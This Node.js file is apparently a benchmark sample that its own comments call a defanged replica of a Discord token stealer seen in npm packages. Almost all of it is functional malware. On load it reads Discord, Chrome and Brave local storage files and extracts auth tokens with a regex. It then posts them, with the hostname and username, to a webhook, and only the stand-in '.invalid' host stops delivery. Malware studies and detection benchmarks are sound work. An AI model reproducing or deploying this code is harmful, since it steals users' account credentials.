// DEFANGED REPLICA (bench corpus, issue 10): Discord token stealer shape seen in real npm packages.
// The webhook host is under .invalid; nothing here can deliver. Never run outside the sandbox.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const WEBHOOK = 'https://discord.invalid/api/webhooks/000000000000000000/made-up-webhook-token';

const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
const local = process.env.LOCALAPPDATA || path.join(os.homedir(), '.local', 'share');
const stores = {
  Discord: path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  DiscordCanary: path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  Chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
  Brave: path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
};

function grabTokens() {
  const found = [];
  for (const [name, dir] of Object.entries(stores)) {
    if (!fs.existsSync(dir)) continue;
    for (const file of fs.readdirSync(dir)) {
      if (!file.endsWith('.log') && !file.endsWith('.ldb')) continue;
      const text = fs.readFileSync(path.join(dir, file), 'utf8');
      const matches = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g) || [];
      for (const token of matches) found.push({ name, token });
    }
  }
  return found;
}

function send(content) {
  const body = JSON.stringify({ username: 'lofi', content });
  const url = new URL(WEBHOOK);
  const req = https.request({
    hostname: url.hostname,
    path: url.pathname,
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.write(body);
  req.end();
}

const tokens = grabTokens();
send('```' + JSON.stringify({ host: os.hostname(), user: os.userInfo().username, tokens }) + '```');
